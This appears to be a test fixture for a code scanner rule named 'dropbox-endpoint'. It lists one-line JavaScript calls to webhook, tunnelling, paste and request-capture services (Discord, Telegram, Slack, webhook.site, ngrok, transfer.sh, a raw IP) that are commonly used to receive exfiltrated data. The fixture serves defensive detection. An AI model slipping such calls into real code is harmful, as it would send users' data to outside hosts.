// expect: dropbox-endpoint
fetch('https://discord.com/api/webhooks/' + hook, options);
// expect: dropbox-endpoint
fetch('https://canary.discord.com/api/v9/webhooks/' + hook, options);
// expect: dropbox-endpoint
fetch(`https://api.telegram.org/bot${token}/sendMessage`);
// expect: dropbox-endpoint
fetch('https://hooks.slack.com/services/' + hook, options);
// expect: dropbox-endpoint
navigator.sendBeacon('https://webhook.site/' + id, data);
// expect: dropbox-endpoint
fetch('https://abc.requestcatcher.com/x');
// expect: dropbox-endpoint
fetch('https://x.oastify.com/');
// expect: dropbox-endpoint
fetch('https://1a2b.ngrok-free.app/in');
// expect: dropbox-endpoint
new WebSocket('wss://quick-words.trycloudflare.com/');
// expect: dropbox-endpoint
fetch('https://pastebin.com/raw/abc');
// expect: dropbox-endpoint
fetch('https://transfer.sh/x', options);
// expect: dropbox-endpoint
fetch('https://185.199.110.9/in');
